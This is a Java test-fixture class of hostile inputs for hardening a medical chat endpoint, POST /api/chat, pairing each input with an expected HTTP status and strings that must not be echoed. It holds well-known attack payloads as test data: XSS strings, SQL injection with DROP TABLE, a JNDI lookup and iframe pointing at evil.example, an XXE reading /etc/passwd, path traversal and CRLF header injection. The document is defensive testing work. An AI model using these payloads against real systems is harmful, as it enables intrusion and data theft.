package com.livermets.assistant.hardening;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import org.springframework.http.HttpMethod;

import static com.livermets.assistant.hardening.HostileCase.ANY_CLIENT_ERROR_OR_OK;
import static com.livermets.assistant.hardening.HostileCase.json;
import static com.livermets.assistant.hardening.HostileCase.message;

/** Hostile input for the web JSON channel, {@code POST /api/chat}. */
final class WebHostileCases {

	private WebHostileCases() {
	}

	static List<HostileCase> cases() {
		String megabyte = "{\"message\":\"" + "a".repeat(1024 * 1024) + "\"}";
		byte[] invalidUtf8 = concat("{\"message\":\"caf".getBytes(StandardCharsets.US_ASCII),
				new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0x80 },
				"\"}".getBytes(StandardCharsets.US_ASCII));
		byte[] overlongSlash = concat("{\"message\":\"a".getBytes(StandardCharsets.US_ASCII),
				new byte[] { (byte) 0xC0, (byte) 0xAF }, "\"}".getBytes(StandardCharsets.US_ASCII));
		byte[] withBom = concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF },
				"{\"message\":\"what are liver mets\"}".getBytes(StandardCharsets.UTF_8));
		return List.of(
				// empty and blank
				json("no body", new byte[0], 400), json("empty object", "{}", 400), message("empty message", "", 400),
				message("spaces only", "     ", 400), message("tabs and newlines only", "\t\n\r\n\t", 400),
				message("unicode spaces only", "\u00A0\u2003\u3000", ANY_CLIENT_ERROR_OR_OK),
				json("null message", "{\"message\":null}", 400), json("json null", "null", 400),
				json("json string", "\"what are liver mets\"", 400), json("json array", "[\"hi\"]", 400),
				// wrong types
				json("number message", "{\"message\":5}", 400), json("boolean message", "{\"message\":true}", 400),
				json("object message", "{\"message\":{\"text\":\"hi\"}}", 400),
				json("array message", "{\"message\":[\"hi\"]}", 400),
				json("number session id", "{\"sessionId\":5,\"message\":\"hi\"}", 400),
				json("huge number", "{\"sessionId\":1e999999,\"message\":\"hi\"}", 400),
				// long markup where a detail might quote it
				json("3,000-character markup session id",
						"{\"sessionId\":" + HostileCase.quote(HostileCase.LONG_MARKUP) + ",\"message\":\"hi\"}", 400,
						"<script"),
				json("3,000-character markup key in the message",
						"{\"message\":{" + HostileCase.quote(HostileCase.LONG_MARKUP) + ":1}}", 400, "<script"),
				json("3,000-character markup as a number", "{\"message\":" + HostileCase.LONG_MARKUP + "}", 400,
						"<script"),
				message("3,000-character markup message", HostileCase.LONG_MARKUP, 400, "<script"),
				json("unknown fields ignored", "{\"message\":\"hi\",\"admin\":true,\"role\":\"doctor\"}", 200),
				json("duplicate keys", "{\"message\":\"hi\",\"message\":\"<b>x</b>\"}", ANY_CLIENT_ERROR_OR_OK, "<b>"),
				// malformed JSON and encodings
				json("truncated json", "{\"message\":\"hi", 400), json("single quotes", "{'message':'hi'}", 400),
				json("trailing garbage", "{\"message\":\"hi\"} <script>", ANY_CLIENT_ERROR_OR_OK, "<script"),
				json("comment in json", "{/* x */\"message\":\"hi\"}", 400),
				json("invalid utf-8 bytes", invalidUtf8, 400), // Jackson decodes this
																// overlong form
																// leniently; harmless
																// here, the text is only
																// classified.
				json("overlong utf-8 slash", overlongSlash, ANY_CLIENT_ERROR_OR_OK),
				json("lone surrogate escape", "{\"message\":\"\\ud800 liver\"}", ANY_CLIENT_ERROR_OR_OK),
				json("utf-8 byte order mark", withBom, ANY_CLIENT_ERROR_OR_OK),
				json("deep array nesting", "{\"message\":" + "[".repeat(20000) + "]".repeat(20000) + "}", 400),
				json("deep object nesting",
						"{\"message\":\"hi\",\"x\":" + "{\"a\":".repeat(5000) + "1" + "}".repeat(5000) + "}", 400),
				// size
				json("1 MB body", megabyte, 413), json("1 MB body, chunked", megabyte, 413).chunkedBody(),
				message("message over 1000 characters", "a".repeat(1001), 400),
				message("message of exactly 1000 characters", "liver ".repeat(166) + "mets", 200),
				message("1000 emoji are 1000 characters", "\uD83D\uDE00".repeat(1000), 200),
				message("1001 emoji are too many", "\uD83D\uDE00".repeat(1001), 400),
				message("one 1000-letter word", "x".repeat(1000), 200),
				// session ids
				json("path traversal session id", "{\"sessionId\":\"../../etc/passwd\",\"message\":\"hi\"}", 400,
						"passwd"),
				json("script session id", "{\"sessionId\":\"<script>alert(1)</script>\",\"message\":\"hi\"}", 400,
						"<script"),
				json("crlf session id", "{\"sessionId\":\"a\\r\\nSet-Cookie: x=y\",\"message\":\"hi\"}", 400,
						"Set-Cookie"),
				json("nul session id", "{\"sessionId\":\"a\\u0000b\",\"message\":\"hi\"}", 400),
				json("overlong session id", "{\"sessionId\":\"" + "s".repeat(101) + "\",\"message\":\"hi\"}", 400),
				// control characters and unicode
				message("control characters", "\u0000\u0001\u0007\u001B[31m what are liver mets", 200),
				message("only NUL characters", "\u0000\u0000\u0000", ANY_CLIENT_ERROR_OR_OK),
				message("crlf in message", "hi\r\nSet-Cookie: a=b\r\n\r\n<h1>x</h1>", 200, "<h1>", "Set-Cookie"),
				message("arabic rtl text", "ما هي نقائل الكبد", 200),
				message("hebrew mixed with english", "מה זה liver mets?", 200),
				message("rtl override characters", "\u202Estem revil era tahw\u202C", 200),
				message("emoji", "\uD83E\uDEC0 liver mets?? \uD83D\uDE22\uD83D\uDE4F", 200),
				message("zero-width characters inside words", "wh\u200Bat a\u200Cre li\u200Dver me\uFEFFts", 200),
				message("only zero-width characters", "\u200B\u200C\u200D\uFEFF", ANY_CLIENT_ERROR_OR_OK),
				message("combining marks", "l\u0301\u0302\u0303\u0304i\u0305\u0306v\u0307e\u0308r\u0309".repeat(20),
						200),
				message("fullwidth letters", "ｗｈａｔ ａｒｅ ｌｉｖｅｒ ｍｅｔｓ", 200),
				// injection
				message("script tag", "<script>alert('xss')</script>", 200, "<script", "alert("),
				message("img onerror", "<img src=x onerror=alert(1)>", 200, "<img", "onerror"),
				message("svg onload breaking out of an attribute", "\"><svg/onload=alert(1)>", 200, "<svg", "onload"),
				message("javascript url", "javascript:alert(document.cookie)", 200, "javascript:", "document.cookie"),
				json("unicode-escaped script in json",
						"{\"message\":\"\\u003cscript\\u003ealert(2)\\u003c/script\\u003e\"}", 200, "<script",
						"alert(2)"),
				message("html entities", "&lt;script&gt;alert(3)&lt;/script&gt;", 200, "&lt;script"),
				message("iframe", "<iframe src=\"https://evil.example\"></iframe> liver mets", 200, "<iframe",
						"evil.example"),
				message("sql injection", "' OR 1=1; DROP TABLE sessions; --", 200, "DROP TABLE"),
				message("template injection", "${7*7} #{7*7} {{7*7}} <%= 7*7 %>", 200, "${", "{{", "<%"),
				message("jndi lookup", "${jndi:ldap://evil.example/a}", 200, "jndi", "evil.example"),
				message("markdown link", "[click](javascript:alert(1)) liver mets", 200, "javascript:"),
				// protocol
				new HostileCase("text/plain body", HttpMethod.POST, "/api/chat", Map.of("Content-Type", "text/plain"),
						"what are liver mets".getBytes(StandardCharsets.UTF_8), false, 415, List.of()),
				new HostileCase("form body", HttpMethod.POST, "/api/chat",
						Map.of("Content-Type", "application/x-www-form-urlencoded"),
						"message=<script>x</script>".getBytes(StandardCharsets.UTF_8), false, 415, List.of("<script")),
				new HostileCase("xml body", HttpMethod.POST, "/api/chat", Map.of("Content-Type", "application/xml"),
						"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><m>&e;</m>"
							.getBytes(StandardCharsets.UTF_8),
						false, 415, List.of("root:")),
				new HostileCase("GET on the chat endpoint", HttpMethod.GET, "/api/chat", Map.of(), null, false, 405,
						List.of()),
				new HostileCase("DELETE on the chat endpoint", HttpMethod.DELETE, "/api/chat", Map.of(), null, false,
						405, List.of()),
				new HostileCase("accepts only html", HttpMethod.POST, "/api/chat",
						Map.of("Content-Type", "application/json", "Accept", "text/html"),
						"{\"message\":\"hi\"}".getBytes(StandardCharsets.UTF_8), false, 406, List.of()),
				new HostileCase("unknown api path", HttpMethod.POST, "/api/admin",
						Map.of("Content-Type", "application/json"),
						"{\"message\":\"hi\"}".getBytes(StandardCharsets.UTF_8), false, 404, List.of()),
				new HostileCase("encoded traversal in path", HttpMethod.GET, "/api/..%2F..%2Fetc%2Fpasswd", Map.of(),
						null, false, ANY_CLIENT_ERROR_OR_OK, List.of("root:")),
				new HostileCase("16 KB header", HttpMethod.POST, "/api/chat",
						Map.of("Content-Type", "application/json", "X-Padding", "p".repeat(16 * 1024)),
						"{\"message\":\"hi\"}".getBytes(StandardCharsets.UTF_8), false, 431, List.of()),
				new HostileCase("json with latin-1 charset", HttpMethod.POST, "/api/chat",
						Map.of("Content-Type", "application/json;charset=ISO-8859-1"),
						"{\"message\":\"caf\u00e9 liver\"}".getBytes(StandardCharsets.ISO_8859_1), false,
						ANY_CLIENT_ERROR_OR_OK, List.of()));
	}

	private static byte[] concat(byte[]... parts) {
		int length = 0;
		for (byte[] part : parts) {
			length += part.length;
		}
		byte[] all = new byte[length];
		int at = 0;
		for (byte[] part : parts) {
			System.arraycopy(part, 0, all, at, part.length);
			at += part.length;
		}
		return all;
	}

}
